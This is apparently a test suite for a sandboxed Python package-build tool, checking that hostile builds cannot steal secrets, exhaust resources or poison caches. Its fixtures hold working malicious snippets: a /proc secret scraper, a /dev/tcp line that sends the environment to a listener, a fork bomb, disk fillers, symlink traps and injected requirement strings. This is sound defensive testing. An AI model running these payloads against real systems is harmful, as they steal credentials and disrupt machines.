"""Malicious source archives and wheels: what is built and installed is code from strangers, too."""

import json
import os
import pathlib
import shutil
import sys
import time
import unittest

from attack import SECRETS, WORDS, Listener, main, sandboxes  # first: it says where the others are
from python_stack import HERE, PROGRAM, PythonStack, sdist, wheel


class MaliciousBuild(PythonStack):
    """setup.py tells by failing with its findings: the end of its log is stored."""

    def setUp(self):
        super().setUp()
        self.scratch.chmod(0o755)
        self.has_build_tools()
        self.listener = Listener()
        self.addCleanup(self.listener.socket.close)
        self.environment.update({name: value for name, value in SECRETS.items() if name != "PIP_INDEX_URL"})
        self.environment["no_proxy"] = "127.0.0.1"
        self.environment["PIP_INDEX_URL"] = self.index.url.replace("http://", "http://somebody:pass-of-the-index@") + "/simple"

    def build(self, setup, memory_gib=1, seconds=240):
        project = self.stack(self.index.add(sdist(setup)), limits={"memory_gib": memory_gib, "build_seconds": seconds})
        self.inspect(project, exit_code=None, cwd=self.scratch)
        return self.documents()[-1]

    def test_a_secret_is_neither_found_nor_sent_away(self):
        document = self.build(f"""
import os, socket, sys
words = {WORDS!r}
text = repr(dict(os.environ))
for process in os.listdir('/proc'):
    for file in ('environ', 'cmdline'):
        try:
            text += open('/proc/%s/%s' % (process, file), 'rb').read().decode('latin1')
        except (OSError, IOError):
            pass
sent = 'sent'
try:
    socket.create_connection(('127.0.0.1', {self.listener.port}), 3).close()
except OSError:
    sent = 'not sent'
sys.exit('found %d, %s' % (len([word for word in words if word in text]), sent))
""")
        self.assertEqual(document["outcome"], "build_failed")
        self.assertIn("found 0, not sent", document["stderr_tail"])
        self.assertEqual(self.listener.came, 0)
        for word in WORDS:
            self.assertNotIn(word, self.stackx("export").stdout)

    def test_it_cannot_fill_the_disk(self):
        before = time.monotonic()
        document = self.build("""
import os
import shutil
for i in range(200):
    with open(os.path.join(os.environ.get('PWD', '.'), 'fill%d' % i) if i % 2 else '/tmp/fill%d' % i, 'wb') as file:
        file.write(bytes(100 << 20))
import glob
for place in open('/proc/mounts').read().split():
    if place.endswith('/room'):
        for i in range(100):
            with open(os.path.join(place, 'fill%d' % i), 'wb') as file:
                file.write(bytes(100 << 20))
""", memory_gib=1)
        self.assertNotEqual(document["outcome"], "ok")
        self.assertLess(time.monotonic() - before, 300)
        self.assertEqual(self.half_built(), [])

    def test_it_cannot_fill_what_it_may_write(self):
        document = self.build("""
import os
import shutil
for line in open('/proc/mounts'):
    place = line.split()[1]
    if place.endswith('/room'):
        for i in range(100):
            with open(os.path.join(place, 'fill%d' % i), 'wb') as file:
                if i < 30:
                    os.posix_fallocate(file.fileno(), 0, 100 << 20)  # as good as written, and quicker
                else:
                    file.write(bytes(100 << 20))
""", memory_gib=1)
        self.assertNotEqual(document["outcome"], "ok")
        self.assertIn("it wrote more than", document["reason"])
        self.assertEqual(self.half_built(), [])

    def test_it_cannot_hide_what_it_writes(self):
        """Deeper than paths reach, and behind a door that was closed after the files were opened."""
        for where in ("for _ in range(40): os.mkdir('d' * 200); os.chdir('d' * 200)", "os.mkdir('closed'); os.chdir('closed')"):
            with self.subTest(where=where):
                document = self.build(f"""
import os, time
import shutil
for line in open('/proc/mounts'):
    place = line.split()[1]
    if place.endswith('/room'):
        os.chdir(place)
        {where}
        files = [open('fill%d' % i, 'wb') for i in range(50)]
        os.chmod('.', 0)
        for file in files:
            os.posix_fallocate(file.fileno(), 0, 100 << 20)
        time.sleep(60)  # until it is seen
""", memory_gib=1)
                self.assertNotEqual(document["outcome"], "ok")
                self.assertIn("it wrote more than", document["reason"])
                self.assertEqual(self.half_built(), [])

    def test_a_fork_bomb_is_ended(self):
        before = time.monotonic()
        document = self.build("""
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.1)
""", seconds=20)
        self.assertNotEqual(document["outcome"], "ok")
        self.assertLess(time.monotonic() - before, 240)  # it would go on for ever

    def test_what_its_build_requires(self):
        for required in ("victim @ file:///etc/passwd", "--index-url=http://127.0.0.1:9/", "a b"):
            archive = sdist("", files={"pyproject.toml": '[build-system]\nrequires = [%s]\n' % json.dumps(required)})
            self.inspect(self.stack(self.index.add(archive)), exit_code=None)
            document = self.documents()[-1]
            self.assertEqual(document["outcome"], "build_failed")
            self.assertIn("no name with versions", document["reason"])

    def test_a_line_in_what_its_build_requires(self):
        for required in ("helper; os_name != 'x\n--extra-index-url http://127.0.0.1:9/simple\n'", "helper; os_name != 'x\r-e .'"):
            archive = sdist("", files={"pyproject.toml": '[build-system]\nrequires = [%s]\n' % json.dumps(required)})
            self.inspect(self.stack(self.index.add(archive)), exit_code=None)
            document = self.documents()[-1]
            self.assertEqual(document["outcome"], "build_failed")
            self.assertIn("no name with versions", document["reason"])

    def trap(self, lines):
        """The result of a build that lays this in the place of its wheel; `room` is all that it may write to."""
        room = ("import os, sys\nroom = [line.split()[1] for line in open('/proc/mounts') if line.split()[1].endswith('/room')][0]\n"
                "made = os.path.join(room, 'made')\nif 'bdist_wheel' in sys.argv:\n    os.path.isdir(made) or os.mkdir(made)\n")
        return self.build(room + "".join(f"    {line}\n" for line in lines))

    def test_traps_in_the_place_of_its_wheel(self):
        if not shutil.which("bwrap"):
            self.skipTest("needs bubblewrap")
        host = self.scratch / "host.whl"
        host.write_bytes(wheel()[1])
        name = "victim-1.0-py3-none-any.whl"
        for reason, *lines in (("a symbolic link", f"os.symlink({str(host)!r}, made + '/other.whl')"),
                               ("a symbolic link", "os.rmdir(made); os.mkdir(room + '/elsewhere'); os.symlink('elsewhere', made)"),
                               ("a FIFO", "os.mkfifo(made + '/other.whl')"),
                               ("a hard link", "open(room + '/x', 'w').close(); os.link(room + '/x', made + '/other.whl')"),
                               ("it made 2 files, not one wheel", f"open(made + '/a-{name}', 'w').close()"),
                               ("it left more in", "[open(made + '/hole%d' % i, 'w').truncate(3 << 30) for i in range(2)]")):
            with self.subTest(lines=lines):
                document = self.trap(lines)
                self.assertEqual(document["outcome"], "build_failed", document)
                self.assertIn(reason, document["reason"])
                self.assertEqual(self.half_built(), [])

    def test_a_wheel_of_something_else(self):
        for line in ("keywords['version'] = '2.0'", "keywords['name'] = 'pip'"):
            document = self.build(line)
            self.assertEqual(document["outcome"], "build_failed", document)
            self.assertIn("which is no wheel of victim 1.0", document["reason"])

    def test_what_lies_beside_its_wheel_is_not_looked_at(self):
        """Where stackx once looked for wheels, and where it once put what Python 2 installs."""
        if not shutil.which("bwrap"):
            self.skipTest("needs bubblewrap")
        document = self.trap(["os.symlink('/proc/self/cwd', room + '/out')", "os.mkfifo(room + '/a-1-py3-none-any.whl')",
                              "os.mkdir(room + '/b-1-py3-none-any.whl')", "os.mkdir(room + '/closed'); os.chmod(room + '/closed', 0)"])
        self.assertEqual(document["outcome"], "ok", document)
        self.assertEqual(self.half_built(), [])

    def test_a_build_that_requires_what_is_on_the_index(self):
        self.index.add(wheel("helper", "2.0", files={"helper/__init__.py": "word = 'helped'\n"}))
        archive = sdist("import helper\nassert helper.word == 'helped'",
                        files={"pyproject.toml": '[build-system]\nrequires = ["setuptools", "helper>=2"]\n'})
        self.inspect(self.stack(self.index.add(archive)))
        self.assertEqual(self.documents()[-1]["outcome"], "ok")


@unittest.skipUnless(shutil.which("bwrap"), "needs bubblewrap")
class ForeignInterpreter(PythonStack):
    """A program that a catalog calls a Python: it answers as one, and compiles and builds as it likes."""

    def setUp(self):
        super().setUp()
        self.scratch.chmod(0o755)
        self.program = None
        self.version = HERE

    def python(self):
        program = str(self.program or PROGRAM)
        return {"kind": "runtime", "versions": {self.version: {"artifacts": [{"type": "path", "file": program, "program": program}]}}}

    def answering(self, version, script):
        """Says that it is this Python, and does as the script says, whose words are the arguments."""
        place = self.scratch / "foreign"
        place.mkdir()
        self.program = place / "python"
        tag = "".join(version.split(".")[:2])
        self.program.write_text("#!/bin/bash\n"
                                "for word in \"$@\"; do if [ \"$word\" = -c ]; then\n"
                                f"  printf 'stackx\\0cpython\\000{version}\\0cpython-{tag}\\0cp{tag}\\00064\\0/usr\\0\\0'; exit 0; fi; done\n"
                                f"{script}\n")
        self.program.chmod(0o755)
        self.version = ".".join(version.split(".")[:2])

    def result(self, artifact):
        self.stackx("inspect", self.stack(artifact), "--pi", self.pi, "--allow-paths", exit_code=None, cwd=self.scratch)
        return self.documents()[-1]

    def test_what_it_writes_no_other_stack_sees(self):
        uv_cache = self.scratch / "uv-cache"
        self.environment["UV_CACHE_DIR"] = str(uv_cache)
        version = ".".join(map(str, sys.version_info[:3]))
        self.answering(version, 'for last; do :; done\n'
                                'echo "raise SystemExit(\'poisoned\')" | tee "$last/victim/__init__.py" > "$last/sitecustomize.py"\n'
                                f'mkdir -p "$last/victim/__pycache__"; echo poisoned > "$last/victim/__pycache__/__init__.cpython-{version.split(".")[0]}'
                                f'{version.split(".")[1]}.pyc"')
        artifact = self.index.add(wheel())
        self.result(artifact)
        foreign = [path for path in (self.cache / "wheels").iterdir() if path.is_dir()]
        self.program, self.version = None, HERE
        self.assertEqual(self.result(artifact)["outcome"], "ok")
        for place in (uv_cache, self.cache):
            for file in place.rglob("*"):
                if file.is_file() and not any(file.is_relative_to(one) for one in foreign) and "environments" not in str(file):
                    self.assertNotIn(b"poisoned", file.read_bytes(), file)
                self.assertNotEqual(file.name, "sitecustomize.py")
                if file.name == "__init__.py":
                    self.assertNotIn(b"poisoned", file.read_bytes(), file)

    def test_traps_where_bytecode_belongs(self):
        mine = self.scratch / "mine"
        mine.write_text("mine")
        self.answering("3.11.7", f'for last; do :; done\nln -s {mine} "$last/victim/__init__.pyc"')
        document = self.result(self.index.add(wheel()))
        self.assertEqual(document["outcome"], "build_failed", document)
        self.assertIn("a symbolic link", document["reason"])
        self.assertEqual(self.half_built(), [])

    def test_a_wheel_in_a_directory_of_its_name(self):
        self.needs_build_tools()
        self.answering("3.11.7", 'for word; do [ "$before" = --wheel-dir ] && made=$word; before=$word; done\n'
                                 '[ -z "$made" ] || { mkdir -p "$made/victim-1.0-py3"; echo > "$made/victim-1.0-py3/x-none-any.whl"; }')
        document = self.result(self.index.add(sdist("")))
        self.assertEqual(document["outcome"], "build_failed", document)
        self.assertIn("it made victim-1.0-py3/x-none-any.whl, which is no wheel of victim 1.0", document["reason"])
        self.assertEqual(self.half_built(), [])

    def test_one_of_python2_is_not_let_out(self):
        listener = Listener()
        self.addCleanup(listener.socket.close)
        self.environment["PIP_INDEX_URL"] = self.index.url.replace("http://", "http://somebody:pass-of-the-index@") + "/simple"
        self.answering("2.7.18", f"exec 5<>/dev/tcp/127.0.0.1/{listener.port} && env >&5\nenv >&2; echo $* >&2\nexit 1")
        document = self.result(self.index.add(wheel(tags="py2.py3-none-any")))
        self.assertEqual(document["outcome"], "failed", document)  # installed; the PI itself ran under it
        self.assertEqual(listener.came, 0)
        self.assertNotIn("pass-of-the-index", self.stackx("export").stdout)
        archive = self.index.add(sdist("", version="1.1"))
        self.needs_build_tools((2, 7))
        self.stackx("inspect", self.stack(archive, version="1.1"), "--pi", self.pi, "--allow-paths", exit_code=None, cwd=self.scratch)
        self.assertEqual(self.documents()[-1]["outcome"], "build_failed")
        self.assertEqual(listener.came, 0)
        self.assertNotIn("pass-of-the-index", self.stackx("export").stdout)


class MaliciousWheel(PythonStack):
    """Nothing of it runs when it is unpacked; but what it holds lies among stackx's own files, and is walked."""

    def results(self, bad, **others):
        """Of the stack with the bad wheel of victim 1.0, and of that with an honest 2.0."""
        entries = {"1.0": bad, "2.0": self.index.add(wheel(version="2.0"))}
        versions = {version: {"requires": {"python": "*"}, "artifacts": [artifact]} for version, artifact in entries.items()}
        components = {"python": self.python(), "victim": {"kind": "package", "ecosystem": "pypi", "versions": versions}, **others}
        self.write("catalog.json", {"$schema": "stackx/catalog/1", "components": components})
        project = self.project(requires={name: "*" for name in components}, workload={"pi": "hello", "params": {}},
                               campaign={"sampler": {"kind": "all"}, "rounds": 1, "limits": {"seconds": 60, "memory_gib": 1}})
        self.stackx("inspect", project, "--pi", self.pi, "--allow-paths", exit_code=None, cwd=self.scratch)
        return {document["stack"]["victim"]: document for document in self.documents()}

    def refused(self, reason, bad):
        found = self.results(self.index.add(bad))
        self.assertEqual(found["2.0"]["outcome"], "ok", found)
        self.assertEqual(found["1.0"]["outcome"], "build_failed", found)
        self.assertIn(reason, found["1.0"]["reason"])
        self.assertEqual(self.half_built(), [])

    def test_names_of_stackx_own(self):
        for name in (".stackx-wheel.json", ".stackx-wheel.json/x", ".stackx-environment.json", ".stackx-environment.json/x"):
            with self.subTest(name=name):
                self.refused("a name of stackx's own", wheel(files={name: "{}"}))

    def test_directories_in_each_other(self):
        self.refused("directories in each other", wheel(files={"/".join(["d"] * 300) + "/x": "x"}))

    def test_a_file_where_another_has_a_directory(self):
        other = {"kind": "package", "ecosystem": "pypi", "versions": {"1.0": {"requires": {"python": "*"}, "artifacts": [
            self.index.add(wheel("aaa", files={"victim": "a file"}))]}}}
        for document in self.results(self.index.add(wheel()), aaa=other).values():
            self.assertEqual(document["outcome"], "build_failed", document)
            self.assertIn("cannot be in one environment: victim", document["reason"])
        self.assertEqual(self.half_built(), [])


class Python2(PythonStack):
    """uv does not take its wheels: they are fetched and built nevertheless, and none of it under an interpreter with a network."""

    def setUp(self):
        super().setUp()
        self.scratch.chmod(0o755)
        self.work = self.scratch / "work"  # where stackx runs: builds once could make it move that into its cache
        self.work.mkdir()
        (self.work / "thesis.tex").write_text("mine")
        found = sorted(pathlib.Path.home().glob(".pyenv/versions/2.7*/bin/python2.7")) + [shutil.which("python2.7")]
        self.program = found[0] and os.path.realpath(found[0])
        if not self.program:
            self.skipTest("needs a Python 2.7")

    def python(self):
        return {"kind": "runtime", "versions": {"2.7": {"artifacts": [{"type": "path", "file": self.program, "program": self.program}]}}}

    def result(self, *artifacts, **more):
        self.stackx("inspect", self.stack(*artifacts, **more), "--pi", self.pi, "--allow-paths", exit_code=None, cwd=self.work)
        return self.documents()[-1]

    def test_its_wheels(self):
        for tags in ("cp27-cp27mu-manylinux1_x86_64", "py2-none-any", "py2.py3-none-any"):
            document = self.result(self.index.add(wheel(tags=tags, files={"victim/data.txt": tags})))
            self.assertEqual(document["outcome"], "ok", document)
        self.assertTrue(list((self.cache / "wheels").rglob("*.pyc")))
        artifact = self.index.add(wheel(tags="py2-none-any", files={"victim/more.txt": "more"}))
        self.index.files[artifact["file"]] = wheel()[1]
        self.assertEqual(self.result(artifact)["outcome"], "hash_mismatch")
        outside = self.index.add(wheel(tags="py2-none-any", files={"../../../escaped": "x"}))
        self.assertIn("outside of its environment", self.result(outside)["reason"])
        self.assertEqual(self.half_built(), [])

    def test_a_build(self):
        self.needs_build_tools((2, 7))
        self.index.add(wheel("helper", "2.0", tags="py2.py3-none-any"))
        archive = sdist("import os, sys, helper\nif 'bdist_wheel' in sys.argv:\n"
                        "    room, = [line.split()[1] for line in open('/proc/mounts') if line.split()[1].endswith('/room')]\n"
                        "    os.symlink('/proc/self/cwd', room + '/out')\n" if shutil.which("bwrap") else "import helper",
                        files={"pyproject.toml": '[build-system]\nrequires = ["setuptools", "wheel", "helper>=2"]\n'})
        document = self.result(self.index.add(archive))
        self.assertTrue((self.work / "thesis.tex").exists())
        self.assertEqual(document["outcome"], "ok", document)
        self.assertEqual(self.half_built(), [])


class PrivateUmask(PythonStack):
    """Root's files may be root's alone; what is measured as another user must be able to read its stack."""

    def test_a_stack_can_read_itself(self):
        if not shutil.which("bwrap"):
            self.skipTest("needs bubblewrap")
        before = os.umask(0o077)
        self.addCleanup(os.umask, before)
        project = self.stack(self.index.add(wheel()))
        self.inspect(project, exit_code=None)
        self.assertEqual(self.documents()[-1]["outcome"], "ok" if os.stat(self.pi).st_mode & 0o004 or os.geteuid() else "missing_pi")
        self.pi.chmod(0o600)
        self.inspect(project, exit_code=None)
        if os.geteuid() == 0:
            self.assertIn("chmod a+r", self.documents()[-1]["reason"])
        self.pi.chmod(0o644)
        self.inspect(project)
        self.assertEqual(self.documents()[-1]["outcome"], "ok")


class WithoutProtection(PythonStack):
    def test_what_a_stack_wrote_is_not_used_by_another(self):
        """Without a sandbox a PI can write to what is cached: no other stack sees it, and it is made again."""
        self.environment["PATH"] = self.without_bubblewrap()
        project = self.stack(self.index.add(wheel(files={"victim/data.py": "word = 'good'\n"})))
        self.write("pi.py", "import sys, os, victim, victim.data, json\n"
                            "path = victim.data.__file__.replace('.pyc', '.py')\n"
                            "before = open(path).read()\n"
                            "os.chmod(path, 0o644)\n"
                            "open(path, 'w').write(before.replace('good', 'evil'))\n"
                            "print(json.dumps({'samples_ns': [1000], 'parameters': {'before': before}, 'component': 'victim'}))\n")
        for _ in range(2):
            self.inspect(project)
            self.assertIn("good", self.documents()[-1]["parameters"]["before"])
        for file in (self.cache / "open" / "wheels").rglob("data.py"):
            self.assertIn("good", file.read_text())

    def test_what_it_wrote_is_not_used_in_a_sandbox(self):
        """Everything that it was shown and all around it, contents, manifests and new files: what a sandbox shows is elsewhere."""
        if not shutil.which("bwrap"):
            self.skipTest("needs bubblewrap")
        with_bubblewrap, without = self.environment["PATH"], self.without_bubblewrap()
        project = self.stack(self.index.add(wheel(files={"victim/data.py": "word = 'good'\n"})))
        self.write("pi.py", """import hashlib, json, os, pathlib, victim.data
environment = pathlib.Path(victim.__file__).parents[1]
try:
    (environment / 'victim' / 'data').mkdir(exist_ok=True)
    (environment / 'victim' / 'data' / '__init__.py').write_text("word = 'evil'\\n")
    for file in environment.parents[1].rglob('*'):
        if file.name.startswith('data.') and file.is_file():
            status = file.stat()
            evil = file.read_bytes().replace(b'good', b'evil')
            file.chmod(0o644)
            file.write_bytes(evil)
            os.utime(file, ns=(status.st_atime_ns, status.st_mtime_ns))
    for file in environment.parents[1].rglob('.stackx-wheel.json'):
        document = json.loads(file.read_text())
        for one in document['files']:
            one['sha256'] = hashlib.sha256((file.parent / one['path']).read_bytes()).hexdigest()
        file.write_text(json.dumps(document))
except OSError:
    pass  # in a sandbox
print(json.dumps({'samples_ns': [1000], 'parameters': {'word': victim.data.word}, 'component': 'victim'}))
""")
        for path in (with_bubblewrap, without, with_bubblewrap):
            self.environment["PATH"] = path
            self.inspect(project)
            self.assertEqual(self.documents()[-1]["parameters"]["word"], "good")
        self.assertTrue(any("evil" in file.read_text() for file in self.cache.rglob("data.py")))

    def without_bubblewrap(self):
        place = self.scratch / "bin"
        place.mkdir()
        for directory in os.environ["PATH"].split(os.pathsep):
            for name in os.listdir(directory) if os.path.isdir(directory) else []:
                if name not in ("bwrap", "podman", "docker") and not (place / name).exists():
                    (place / name).symlink_to(os.path.join(directory, name))
        return str(place)


if __name__ == "__main__":
    main()
